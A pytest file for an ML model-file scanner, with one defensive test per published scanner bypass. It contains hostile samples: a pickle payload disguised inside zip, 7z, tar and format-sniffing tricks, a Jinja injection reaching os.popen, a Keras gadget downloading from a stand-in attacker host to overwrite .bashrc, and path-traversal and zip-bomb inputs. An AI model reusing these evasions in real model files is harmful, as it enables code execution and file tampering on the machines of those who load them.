"""One test per published container/format bypass of model scanners, named after it.

Every sample is built from bytes at test time with a harmless payload (``touch pwned``) and is only
ever parsed, never loaded.
"""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from tests.unit.scan.formats.helpers import (
    BENIGN_PICKLE,
    EVIL_PICKLE,
    Member,
    build_zip,
    pickle_members,
    rules,
    scan_bytes,
)


def _critical(report) -> bool:  # type: ignore[no-untyped-def]
    return any(f.rule == "TEST-PICKLE" and f.severity == "critical" for f in report.findings)


def test_cve_2025_10156_picklescan_zip_bad_crc(tmp_path: Path, fake_pickle: None) -> None:
    # JFrog 2025: a wrong CRC makes Python's zipfile raise, picklescan gave up, torch.load ignores
    # the CRC and unpickles.
    data = build_zip(
        [Member("archive/data.pkl", EVIL_PICKLE, crc=0), Member("archive/version", b"3\n")]
    )
    report = scan_bytes(tmp_path, data, "model.pt")
    assert "ZIP-BAD-CRC" in rules(report)
    assert _critical(report)


def test_cve_2025_10156_bad_crc_deflated(tmp_path: Path, fake_pickle: None) -> None:
    data = build_zip([Member("archive/data.pkl", EVIL_PICKLE, method=8, crc=7)])
    report = scan_bytes(tmp_path, data, "model.pt")
    assert {"ZIP-BAD-CRC", "TEST-PICKLE"} <= rules(report)
    assert _critical(report)


def test_zip_duplicate_name_confusion_pytorch_first_zipfile_last(
    tmp_path: Path, fake_pickle: None
) -> None:
    # PyTorch (miniz) opens the first "archive/data.pkl", Python's zipfile the last: a scanner on
    # zipfile sees only the benign copy.
    data = build_zip(
        [
            Member("archive/data.pkl", EVIL_PICKLE),
            Member("archive/data.pkl", BENIGN_PICKLE),
            Member("archive/version", b"3\n"),
        ]
    )
    report = scan_bytes(tmp_path, data, "model.pt")
    assert "ZIP-DUPLICATE-NAME" in rules(report)
    assert pickle_members(report) == ["archive/data.pkl", "archive/data.pkl"]
    assert _critical(report)


def test_data_before_first_local_header_is_what_torch_unpickles(
    tmp_path: Path, fake_pickle: None
) -> None:
    # torch.load only takes the zip path when the file starts with "PK\x03\x04"; otherwise it
    # unpickles from byte 0. A benign zip after an evil pickle fools member-only scanners.
    data = build_zip([Member("archive/data.pkl", BENIGN_PICKLE)], prefix=EVIL_PICKLE)
    assert data.find(b"PK\x01\x02") < 64 * 1024
    report = scan_bytes(tmp_path, data, "model.pt")
    assert report.files[0].format == "zip"
    assert "ZIP-PREPENDED-DATA" in rules(report)
    assert "<prefix>" in pickle_members(report)
    assert _critical(report)


def test_modelscan_354_corrupt_local_header_before_data_pkl(
    tmp_path: Path, fake_pickle: None
) -> None:
    # modelscan#354: one unreadable entry aborted the whole zip walk; members after it were never
    # scanned while torch.load read data.pkl through the intact central directory.
    data = bytearray(
        build_zip([Member("archive/junk", b"x" * 10), Member("archive/data.pkl", EVIL_PICKLE)])
    )
    data[0:4] = b"PK\x03\x05"  # break the first local header only
    report = scan_bytes(tmp_path, bytes(data), "model.pt")
    assert "ZIP-LOCAL-HEADER" in rules(report)
    assert _critical(report)


def test_cve_2025_1944_local_header_name_mismatch(tmp_path: Path, fake_pickle: None) -> None:
    # Sonatype 2025 (picklescan < 0.0.23): Python's zipfile raises "File name in directory ...
    # and header ... differ"; PyTorch trusts the central directory. picklescan crashed.
    data = build_zip([Member("archive/data.pkl", EVIL_PICKLE, local_name="archive/zzzz.pkl")])
    report = scan_bytes(tmp_path, data, "model.pt")
    assert "ZIP-LOCAL-HEADER" in rules(report)
    assert _critical(report)  # and the member is still scanned, as PyTorch would load it


def test_cve_2025_10155_extension_does_not_choose_the_parser(
    tmp_path: Path, fake_pickle: None
) -> None:
    # picklescan picked its parser from the file extension. Here a zip named .pkl and a deflated
    # pickle hidden under a tensor-like name are still found: dispatch is by content.
    data = build_zip([Member("weights/0001.bin", EVIL_PICKLE, method=8)])
    report = scan_bytes(tmp_path, data, "model.pkl")
    assert report.files[0].format == "zip"
    assert _critical(report)


def test_zip_slip_member_names(tmp_path: Path) -> None:
    data = build_zip([Member("../../.bashrc", b"touch pwned\n")])
    assert "ARCHIVE-PATH-TRAVERSAL" in rules(scan_bytes(tmp_path, data, "model.zip"))


def test_overlapping_members_zip_bomb(tmp_path: Path) -> None:
    # Fifield's non-recursive zip bomb: many directory entries pointing at the same local data.
    one = build_zip([Member("a", b"\x00" * 1000, method=8)])
    cd_at = one.index(b"PK\x01\x02")
    eocd_at = one.index(b"PK\x05\x06")
    cd = one[cd_at:eocd_at]
    cd2 = cd + cd.replace(b"\x01\x00a", b"\x01\x00b")
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(cd2), cd_at, 0)
    report = scan_bytes(tmp_path, one[:cd_at] + cd2 + eocd, "bomb.zip")
    assert "ZIP-OVERLAPPING-MEMBERS" in rules(report)


def test_nullifai_7z_compressed_pytorch_model(tmp_path: Path, fake_pickle: None) -> None:
    # ReversingLabs 2025 ("nullifAI"): Hugging Face models whose PyTorch files were 7z-compressed
    # instead of zipped; picklescan did not look inside. mlsec decodes 7z with the standard library.
    from tests.unit.scan.formats.helpers import stored_7z

    data = stored_7z([("model/data.pkl", EVIL_PICKLE), ("model/version", b"3\n")])
    report = scan_bytes(tmp_path, data, "model.pt")
    assert report.files[0].format == "7z"
    assert _critical(report)


def test_nullifai_7z_that_cannot_be_decoded_fails_closed(tmp_path: Path) -> None:
    from tests.unit.scan.formats.helpers import seven_zip

    # one folder with a PPMd coder (030401): valid 7z, not decodable without a 7z library
    h = b"\x01\x04\x06\x00\x01\x09\x05\x00\x07\x0b\x01\x00\x01\x23\x03\x04\x01\x05"
    h += b"\x06\x00\x00\x00\x01\x0c\x05\x00\x00\x00"
    report = scan_bytes(tmp_path, seven_zip(b"\x00" * 5, h), "model.pt")
    assert "SEVENZIP-UNINSPECTED" in rules(report)
    assert report.failed(report.findings[0].severity)


def test_nullifai_broken_pickle_in_zip_still_dispatched(tmp_path: Path, fake_pickle: None) -> None:
    # nullifAI's pickles were truncated after the payload so loaders ran it and then errored; the
    # zip layer must still hand such a member to the pickle engine (which reports both).
    broken = EVIL_PICKLE[:-1] + b"\x00garbage"
    data = build_zip([Member("archive/data.pkl", broken, method=8)])
    report = scan_bytes(tmp_path, data, "model.pt")
    assert _critical(report)


def test_joblib_zlib_stream_is_opened(tmp_path: Path, fake_pickle: None) -> None:
    # Scanners that dispatch on extension skipped compressed joblib dumps (zlib has no magic
    # beyond its two-byte header); content sniffing must find and open them.
    import zlib

    report = scan_bytes(tmp_path, zlib.compress(EVIL_PICKLE), "model.joblib")
    assert report.files[0].format == "zlib"
    assert _critical(report)


@pytest.mark.parametrize("flags", [0x01, 0x20, 0x40, 0x61])
def test_cve_2025_1945_zip_flag_bits(tmp_path: Path, fake_pickle: None, flags: int) -> None:
    # Sonatype 2025 (picklescan < 0.0.23): setting the "encrypted" (0x1), "patched data" (0x20) or
    # "strong encryption" (0x40) bits makes Python's zipfile refuse the member; PyTorch ignores
    # them and unpickles data.pkl. The flags are reported AND the bytes are still scanned.
    data = build_zip(
        [Member("archive/data.pkl", EVIL_PICKLE, flags=flags), Member("archive/version", b"3\n")]
    )
    report = scan_bytes(tmp_path, data, "model.pt")
    assert rules(report) & {"ZIP-ENCRYPTED", "ZIP-ODD-FLAGS"}
    assert _critical(report)


def test_42_zip_nested_bomb_is_bounded(tmp_path: Path) -> None:
    # 42.zip: 16 zips of 16 zips of … of large zero files. Work is bounded file-wide (members at
    # every level, decompressed bytes), so the scan ends quickly with a finding.
    import time

    from mlsec.artifact import open_artifact
    from mlsec.scan import Limits, ScanOptions, scan

    layer = build_zip([Member("0.bin", b"\x00" * (1 << 20), method=8)])
    for level in range(4):
        layer = build_zip([Member(f"{level}-{i}.zip", layer, method=8) for i in range(16)])
    p = tmp_path / "42.zip"
    p.write_bytes(layer)
    start = time.perf_counter()
    limits = Limits(max_members=5_000, max_total_extracted=256 << 20)
    report = scan(open_artifact(p), ScanOptions(limits=limits))
    assert time.perf_counter() - start < 10
    assert rules(report) & {"MEMBER-LIMIT", "EXTRACT-LIMIT"}


def test_zip_quine_recursion_is_bounded(tmp_path: Path) -> None:
    # A zip that (through nesting) contains itself: the depth limit ends it.
    inner = build_zip([Member("self.zip", b"")])
    for _ in range(10):
        inner = build_zip([Member("self.zip", inner)])
    report = scan_bytes(tmp_path, inner, "quine.zip")
    assert "CONTAINER-DEPTH" in rules(report)


def _keras_zip(tmp_path: Path, layer: dict) -> Path:  # type: ignore[type-arg]
    import json
    import zipfile

    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
    p = tmp_path / "model.keras"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("metadata.json", "{}")
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64)
    return p


def test_cve_2025_8747_keras_get_file_gadget(tmp_path: Path) -> None:
    # JFrog 2025: a config that names keras.utils.get_file (inside the "trusted" keras package)
    # downloads and overwrites files on load, safe_mode notwithstanding.
    from mlsec.artifact import open_artifact
    from mlsec.scan import scan

    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": {
                "module": "keras.utils",
                "class_name": "function",
                "config": "get_file",
                "registered_name": "function",
            },
            "arguments": {"fname": "/root/.bashrc", "origin": "http://attacker.invalid/x"},
        },
    }
    report = scan(open_artifact(_keras_zip(tmp_path, layer)))
    [f] = [f for f in report.findings if f.rule == "KERAS-FUNCTION-IMPORT"]
    assert f.severity == "critical" and f.symbol == "keras.utils.get_file"


def test_cve_2025_1550_keras_function_by_module(tmp_path: Path) -> None:
    from mlsec.artifact import open_artifact
    from mlsec.scan import scan

    fn = {"module": "subprocess", "class_name": "function", "config": "run"}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": fn}}
    report = scan(open_artifact(_keras_zip(tmp_path, layer)))
    assert ("KERAS-FUNCTION-IMPORT", "critical") in {(f.rule, f.severity) for f in report.findings}


def test_cve_2024_3660_keras_lambda_bytecode(tmp_path: Path) -> None:
    from mlsec.artifact import open_artifact
    from mlsec.scan import scan

    layer = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": ["4wEAAAAAAAAA", None, None],
            "function_type": "lambda",
        },
    }
    report = scan(open_artifact(_keras_zip(tmp_path, layer)))
    assert ("KERAS-LAMBDA", "critical") in {(f.rule, f.severity) for f in report.findings}


def test_cve_2026_1462_keras_tfsmlayer(tmp_path: Path) -> None:
    from mlsec.artifact import open_artifact
    from mlsec.scan import scan

    layer = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/x"}}
    report = scan(open_artifact(_keras_zip(tmp_path, layer)))
    assert "KERAS-TFSMLAYER" in rules(report)


def _onnx_with_external(tmp_path: Path, entries: list[tuple[str, str]]) -> Path:
    from onnx import TensorProto, helper

    w = TensorProto()
    w.name, w.data_type, w.data_location = "w", TensorProto.FLOAT, TensorProto.EXTERNAL
    w.dims.append(2)
    for k, v in entries:
        e = w.external_data.add()
        e.key, e.value = k, v
    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
        initializer=[w],
    )
    p = tmp_path / "model.onnx"
    p.write_bytes(helper.make_model(graph).SerializeToString())
    return p


@pytest.mark.parametrize(
    "location",
    [
        "../../../../etc/passwd",  # CVE-2022-25882 / CVE-2024-27318: read outside the model dir
        "/etc/shadow",
        "subdir/../../../root/.ssh/authorized_keys",  # CVE-2025-51480: save_external_data writes
    ],
)
def test_onnx_external_data_traversal(tmp_path: Path, location: str) -> None:
    from mlsec.artifact import open_artifact
    from mlsec.scan import scan

    report = scan(open_artifact(_onnx_with_external(tmp_path, [("location", location)])))
    assert ("ONNX-EXTERNAL-DATA-PATH", "high") in {(f.rule, f.severity) for f in report.findings}


def test_cve_2026_34445_onnx_external_data_attribute_injection(tmp_path: Path) -> None:
    from mlsec.artifact import open_artifact
    from mlsec.scan import scan

    entries = [("location", "w.bin"), ("offset", "0"), ("__dict__", "x"), ("length", "9" * 30)]
    report = scan(open_artifact(_onnx_with_external(tmp_path, entries)))
    found = sorted((f.rule, f.severity) for f in report.findings)
    assert found == [("ONNX-EXTERNAL-DATA-KEY", "high"), ("ONNX-EXTERNAL-DATA-KEY", "medium")]


def test_cve_2024_34359_llama_cpp_python_chat_template(tmp_path: Path) -> None:
    # Checkmarx 2024: llama-cpp-python rendered tokenizer.chat_template with a plain jinja2
    # Environment; the published payload reaches os.popen through a Jinja global.
    from tests.unit.scan.formats.test_gguf import LLAMA3_TEMPLATE, _base_kvs, gguf

    payload = (
        "{% for x in ().__class__.__base__.__subclasses__() %}"
        "{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os')"
        ".popen('touch pwned').read() }}{% endif %}{% endfor %}"
    )
    report = scan_bytes(tmp_path, gguf(_base_kvs(LLAMA3_TEMPLATE + payload)), "model.gguf")
    assert [(f.rule, f.severity) for f in report.findings] == [
        ("GGUF-CHAT-TEMPLATE-SSTI", "critical")
    ]


@pytest.mark.parametrize(
    ("what", "kv"),
    [
        ("string length beyond the file", ("k", 8, struct.pack("<Q", 1 << 62))),
        ("array count beyond the file", ("k", 9, struct.pack("<IQ", 8, 1 << 40))),
        ("integer-overflowing array", ("k", 9, struct.pack("<IQ", 12, (1 << 64) // 8))),
    ],
)
def test_talos_2024_gguf_parser_overflows(tmp_path: Path, what: str, kv) -> None:  # type: ignore[no-untyped-def]
    # Cisco Talos 2024 (CVE-2024-21825/21836/… in llama.cpp's GGUF reader): unchecked lengths
    # and counts overflow native parsers. mlsec bounds each against the file and fails closed.
    from tests.unit.scan.formats.test_gguf import gguf

    report = scan_bytes(tmp_path, gguf([kv]), "model.gguf")
    assert "PARSE-ERROR" in rules(report), what


def test_modelscan_354_corrupt_lzma_member_before_data_pkl(
    tmp_path: Path, fake_pickle: None
) -> None:
    # the same fail-open class through a member whose LZMA stream is garbage
    import io
    import zipfile as zf_mod

    buf = io.BytesIO()
    with zf_mod.ZipFile(buf, "w") as zf:
        zf.writestr("archive/junk.pkl", b"\x80\x02" + b"x" * 5000, compress_type=zf_mod.ZIP_LZMA)
        zf.writestr("archive/data.pkl", EVIL_PICKLE)
    data = bytearray(buf.getvalue())
    start = data.index(b"archive/junk.pkl") + len("archive/junk.pkl") + 9
    data[start : start + 32] = b"\xff" * 32
    report = scan_bytes(tmp_path, bytes(data), "model.pt")
    assert "ZIP-CORRUPT-MEMBER" in rules(report)
    assert _critical(report)


def test_pickle_disguised_as_a_legacy_lzma_header(tmp_path: Path, fake_pickle: None) -> None:
    # .lzma (joblib's "lzma") has no magic: a pickle can be shaped to sniff as one (BININT args
    # spelling a dictionary size and a small length). It must still reach the pickle engine.
    from mlsec.formats import sniff_bytes

    disguised = b"J\x00\x00\x80\x00NNNJ\x00\x00\x00\x00" + b"0000" + EVIL_PICKLE[2:]
    assert sniff_bytes(disguised) == "xz"
    report = scan_bytes(tmp_path, disguised, "model.pkl")
    assert "PARSE-ERROR" in rules(report)
    assert _critical(report)


def test_pickle_disguised_as_a_safetensors_header(tmp_path: Path, fake_pickle: None) -> None:
    # PROTO 2, then LONG1 with 5 argument bytes that hide the zero high bytes of a "header
    # length" and the "{" at offset 8: it sniffs as safetensors and still unpickles.
    from mlsec.formats import sniff_bytes

    disguised = b"\x80\x02\x8a\x05\x00\x00\x00\x00{0" + EVIL_PICKLE[2:]
    assert sniff_bytes(disguised) == "safetensors"
    report = scan_bytes(tmp_path, disguised, "model.safetensors")
    assert "PARSE-ERROR" in rules(report)
    assert _critical(report)


def test_pickle_disguised_as_gguf(tmp_path: Path, fake_pickle: None) -> None:
    # "G" is BINFLOAT: "GGUF" + 5 more bytes are its argument, then pickle opcodes follow.
    from mlsec.formats import sniff_bytes

    disguised = b"GGUF\x03\x00\x00\x00\x000" + EVIL_PICKLE[2:]
    assert sniff_bytes(disguised) == "gguf"
    report = scan_bytes(tmp_path, disguised, "model.gguf")
    assert "PARSE-ERROR" in rules(report)
    assert _critical(report)


def test_tar_pickle_polyglot(tmp_path: Path, fake_pickle: None) -> None:
    # The first member's name field is a complete protocol-0 pickle: tarfile sees a normal tar,
    # pickle.load runs the name.
    import io
    import tarfile

    name = "cposix\nsystem\n(S'touch pwned'\ntR."
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        info = tarfile.TarInfo(name)
        info.size = 3
        tf.addfile(info, io.BytesIO(b"abc"))
    data = buf.getvalue()
    assert data.startswith(b"cposix")
    report = scan_bytes(tmp_path, data, "model.bin")
    assert report.files[0].format == "tar"
    assert "POLYGLOT-PICKLE" in rules(report)
    assert _critical(report)
